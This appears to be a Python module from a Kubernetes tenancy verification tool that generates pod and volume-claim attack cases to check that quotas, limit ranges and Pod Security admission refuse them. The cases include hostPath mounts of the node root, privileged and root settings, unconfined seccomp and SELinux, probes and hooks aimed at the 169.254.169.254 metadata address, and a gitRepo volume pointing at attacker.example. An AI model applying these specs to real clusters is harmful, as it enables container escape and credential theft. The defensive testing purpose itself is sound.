"""Attacks on quotas, limit ranges and Pod Security."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from tenancy.catalog.versions import incompatible
from tenancy.kube import deniers, quantities
from tenancy.kube.requests import core
from tenancy.planning.kubernetes import quotas
from tenancy.rules.attacks import ABSENT, Attack, Request, attack, skipped
from tenancy.rules.scene import POD_NAME
from tenancy.rules.workloads import INIT, LIMITS, SECURITY, Case, attack_of
from tenancy.spec.fields.tenant import PodSecurity
from tenancy.verify.attacks.scene import AttackedNamespace, Scene

_VOLUMES = "/spec/volumes"


def limit_attacks(scene: Scene) -> Iterator[Attack]:
    """Every namespace's own limits."""
    for place in scene.staffed:
        yield from _quota(scene, place)
        for case in _limit_range(place):
            yield attack_of(scene, place, case, "Pod", deniers.LIMIT_RANGE, f"@{place.name}")
        yield _large_claim(place)
        yield from _pod_security(scene, place)


def _quota(scene: Scene, place: AttackedNamespace) -> Iterator[Attack]:
    denier = deniers.quota(quotas.NAME)
    by_resource = {} if place.environment.uses_device_claims else place.max_gpus
    quota = quotas.resource_quota(place.environment, place.tenant, place.namespace)
    for flavor in by_resource:
        resource = place.environment.resource_of(flavor)
        # Two GPU models may share one resource name.
        share = quantities.units(quota.hard[f"requests.{resource}"])
        pointer = f"{LIMITS}/{resource.replace('/', '~1')}"
        max_gpus = place.max_gpus[flavor]
        base = {pointer.replace("limits", "requests"): ABSENT} if max_gpus else {}
        gpu_request = {flavor: 1} if max_gpus else {}
        sentence = f"request {share + 1} {flavor}, where the quota of {place.name} is {share}"
        case = Case(
            "quota", flavor, sentence, pointer, str(share + 1), "1" if max_gpus else ABSENT, base, gpus=gpu_request
        )
        yield attack_of(scene, place, case, "Pod", denier, f"@{place.name}")
    if not place.tenant.gpus:
        yield skipped(f"quota-pod-gpu@{place.name}", "quota", "request more GPUs", f"{place.tenant.tenant} has none")


def _limit_range(place: AttackedNamespace) -> Iterator[Case]:
    tier = place.environment.tiers[place.tenant.tier_of(place.namespace)]
    maximum, minimum = tier.container.max, tier.container.min
    # The request stays small, so that no quota on requests refuses first.
    if "cpu" in maximum:
        enough = place.pod()["spec"]["containers"][0]["resources"]["limits"]["cpu"]
        yield Case(
            "limits",
            "cpu",
            "run a container above the maximum size",
            f"{LIMITS}/cpu",
            _just_above(maximum["cpu"]),
            enough,
        )
    if "memory" in minimum:
        pointer = "/spec/containers/0/resources/requests/memory"
        yield Case("limits", "memory", "request almost no memory and use a node's", pointer, "1Ki", minimum["memory"])


def _large_claim(place: AttackedNamespace) -> Attack:
    tier = place.environment.tiers[place.tenant.tier_of(place.namespace)]

    def claim(size: str) -> dict[str, Any]:
        spec: dict[str, Any] = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": size}}}
        spec["storageClassName"] = place.environment.claim_classes[0]
        return {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": POD_NAME}, "spec": spec}

    large_claim = claim(_just_above(tier.volume_claim.max))
    request = Request("POST", core(place.name, "persistentvolumeclaims"), large_claim, place.developer)
    sentence = f"claim a volume of more than {tier.volume_claim.max}"
    return attack(
        f"limits-claim@{place.name}",
        "limits",
        sentence,
        deniers.LIMIT_RANGE,
        request,
        twin_body=claim(tier.volume_claim.min),
    )


def _just_above(size: str) -> str:
    return quantities.write(quantities.parse(size) + 1)


def _in_init_containers(place: AttackedNamespace) -> Iterator[Case]:
    """Attacks by init containers and sidecars, to which the limits of containers apply."""
    first = {**place.pod()["spec"]["containers"][0], "name": "first"}
    for kind, extra_fields in (("init", {}), ("sidecar", {"restartPolicy": "Always"})):
        base = {INIT: [{**first, **extra_fields}]}
        security = f"{INIT}/0/securityContext"
        for name, sentence, field, bad, good in (
            ("capability", "add a capability", "capabilities/add", ["SYS_ADMIN"], ABSENT),
            ("root", "run as root", "runAsUser", 0, 1000),
            ("escalation", "gain privileges", "allowPrivilegeEscalation", True, False),
            ("keeps-capabilities", "keep the default capabilities", "capabilities/drop", ABSENT, ["ALL"]),
            ("seccomp", "run without system call filtering", "seccompProfile", {"type": "Unconfined"}, ABSENT),
        ):
            text = f"{sentence} in an {kind} container" if kind == "init" else f"{sentence} in a {kind}"
            yield Case("pod-security", f"{kind}-{name}", text, f"{security}/{field}", bad, good, base)


def _pod_security(scene: Scene, place: AttackedNamespace) -> Iterator[Attack]:
    rule = "pod-security"
    hosts = "pod-05" if incompatible(place.environment.cluster.kubernetes, "probe-hosts") else rule
    volume = {_VOLUMES: [{"name": "data"}]}
    ports = "/spec/containers/0/ports"
    baseline = (
        Case(rule, "host-network", "use the node's network", "/spec/hostNetwork", True),
        Case(rule, "host-path", "mount the node's disk", f"{_VOLUMES}/0/hostPath", {"path": "/"}, base=volume),
    )
    restricted_cases = (
        Case(rule, "host-pid", "see the node's processes", "/spec/hostPID", True),
        Case(rule, "host-ipc", "share the node's memory segments", "/spec/hostIPC", True),
        Case(
            rule,
            "host-port",
            "take a port of the node",
            f"{ports}/0/hostPort",
            8080,
            base={ports: [{"containerPort": 8080}]},
        ),
        Case(rule, "capability", "add a capability", f"{SECURITY}/capabilities/add", ["NET_RAW"]),
        Case(rule, "root", "run as root", f"{SECURITY}/runAsUser", 0, 1000),
        Case(rule, "may-be-root", "set runAsNonRoot to false", "/spec/securityContext/runAsNonRoot", False, True),
        Case(rule, "escalation", "gain privileges", f"{SECURITY}/allowPrivilegeEscalation", True, False),
        Case(
            rule,
            "keeps-capabilities",
            "keep the default capabilities",
            f"{SECURITY}/capabilities/drop",
            ABSENT,
            ["ALL"],
        ),
        Case(
            rule,
            "seccomp",
            "run without system call filtering",
            "/spec/securityContext/seccompProfile/type",
            "Unconfined",
            "RuntimeDefault",
        ),
        Case(
            rule,
            "sysctl",
            "change the kernel's settings",
            "/spec/securityContext/sysctls",
            [{"name": "kernel.msgmax", "value": "1"}],
        ),
        Case(
            rule,
            "app-armor",
            "run unconfined by AppArmor",
            "/spec/securityContext/appArmorProfile",
            {"type": "Unconfined"},
        ),
        Case(
            rule,
            "se-linux",
            "choose an unconfined SELinux label",
            "/spec/securityContext/seLinuxOptions",
            {"type": "spc_t"},
        ),
        Case(
            hosts,
            "probe",
            "have the node send requests to an address of its choice",
            "/spec/containers/0/livenessProbe/httpGet/host",
            "169.254.169.254",
            base={"/spec/containers/0/livenessProbe": {"httpGet": {"port": 80, "path": "/"}}},
        ),
        Case(
            hosts,
            "hook",
            "have the node send requests to an address of its choice when it stops",
            "/spec/containers/0/lifecycle/preStop/httpGet/host",
            "169.254.169.254",
            base={"/spec/containers/0/lifecycle": {"preStop": {"httpGet": {"port": 80, "path": "/"}}}},
        ),
        Case(
            rule,
            "git",
            "have the node clone a repository",
            f"{_VOLUMES}/0/gitRepo",
            {"repository": "https://attacker.example/x"},
            base=volume,
        ),
        *_in_init_containers(place),
        Case(
            rule, "nfs", "mount a server of its choice", f"{_VOLUMES}/0/nfs", {"server": "h", "path": "/"}, base=volume
        ),
        Case(
            rule,
            "device-list",
            "ask the toolkit for all GPUs by mounting its device list",
            f"{_VOLUMES}/0/hostPath",
            {"path": "/dev/null"},
            base={
                **volume,
                "/spec/containers/0/volumeMounts": [
                    {"name": "data", "mountPath": "/var/run/nvidia-container-devices/all"}
                ],
            },
        ),
    )
    strict = place.namespace.pod_security is PodSecurity.RESTRICTED
    for case in baseline if place is not scene.home or not strict else (*baseline, *restricted_cases):
        denier = deniers.POD_SECURITY if case.rule == rule else ""
        yield attack_of(scene, place, case, "Pod", denier, f"@{place.name}")
    if place is scene.home:
        privileged = Case("api-validation", "privileged", "run privileged on the node", f"{SECURITY}/privileged", True)
        # The sample forbids escalation, and the two contradict each other: refused before Pod Security is evaluated.
        yield attack_of(scene, place, privileged, "Pod", deniers.API_VALIDATION)
        mounted = Case("api-validation", "proc", "see all of /proc", f"{SECURITY}/procMount", "Unmasked", "Default")
        # Only a pod with a user namespace of its own may set it, and pod-01 refuses those.
        yield attack_of(scene, place, mounted, "Pod", deniers.API_VALIDATION)
